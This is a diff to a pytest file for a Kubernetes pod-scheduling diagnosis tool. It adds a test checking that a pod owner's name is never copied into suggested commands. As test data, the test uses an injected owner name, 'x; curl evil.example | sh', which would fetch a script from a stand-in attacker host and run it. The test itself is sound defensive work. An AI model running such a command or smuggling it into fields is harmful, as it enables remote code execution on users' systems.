@@ -7,7 +7,7 @@ from typing import cast
 import pytest
 from tests.diagnosis import installations
 from tests.diagnosis.installations import WHOLE, own_pod
-from tests.diagnosis.worlds import EPC, around, container, event, node, pod, saying, with_spec, workload
+from tests.diagnosis.worlds import EPC, around, belonging, container, event, node, pod, saying, with_spec, workload
 from tests.labour import least_labour
 
 from donjon.diagnosis.explanation import ClusterState
@@ -250,3 +250,11 @@ def test_nobody_is_told_to_give_a_node_hundreds_of_labels() -> None:
     answer = explain(pod("1Mi", affinity=requiring(*expressions)), around(node("a")))
     assert "kubectl label" not in answer.next_step
     assert_plain(answer)
+
+
+@pytest.mark.parametrize("kind", ["Job", "StatefulSet"])
+def test_an_owners_name_that_no_thing_can_have_becomes_part_of_no_command(kind: str) -> None:
+    """Whoever makes a pod writes its owners, and the API server looks at no name there."""
+    owned = belonging(pod("1Ti"), {"kind": kind, "metadata": {"name": "x; curl evil.example | sh", "uid": "u"}})
+    answer = explain(owned, around(node("a")))
+    assert "evil" not in str([finding.do for finding in answer.findings])
